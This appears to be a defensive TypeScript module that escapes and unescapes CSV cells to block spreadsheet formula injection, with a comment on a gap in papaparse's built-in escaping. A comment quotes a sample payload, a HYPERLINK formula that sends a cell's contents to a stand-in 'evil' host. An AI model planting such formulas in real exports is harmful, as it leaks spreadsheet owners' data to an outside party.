// Formula injection (OWASP "CSV Injection"): a spreadsheet opening the exported sheet runs a cell
// that starts with = + - @, a tab or a carriage return as a formula, so a product named
// =HYPERLINK("https://evil/?"&A2,"Open") would act in the owner's spreadsheet. The export
// writes such a cell with a ' before it, which spreadsheets show as text; the import removes that
// ' again, so export → import gives back every cell as it was. The writer (csv-write.ts) and the
// reader (csv.ts) share these two rules, which undo each other.
//
// papaparse's own `escapeFormulae: true` (5.7) tests /^[=+\-@\t\r].*$/, which never matches a
// cell with a line break (`.` stops at it, `$` is the end of the cell): a description
// "=1+1\nmore" went out unescaped. Hence a pattern of our own, which papaparse accepts.

/** A cell to escape: a formula start, after any number of 's (so a cell that already began with ' before one also round-trips). */
export const FORMULA_CELL = /^'*[=+\-@\t\r]/;

/** A cell as the export escaped it: one ' more than the cell had. */
const ESCAPED_CELL = /^'+[=+\-@\t\r]/;

/** The cell as it was before the export escaped it; any other cell as it is. */
export function unescapeFormula(cell: string): string {
  return ESCAPED_CELL.test(cell) ? cell.slice(1) : cell;
}
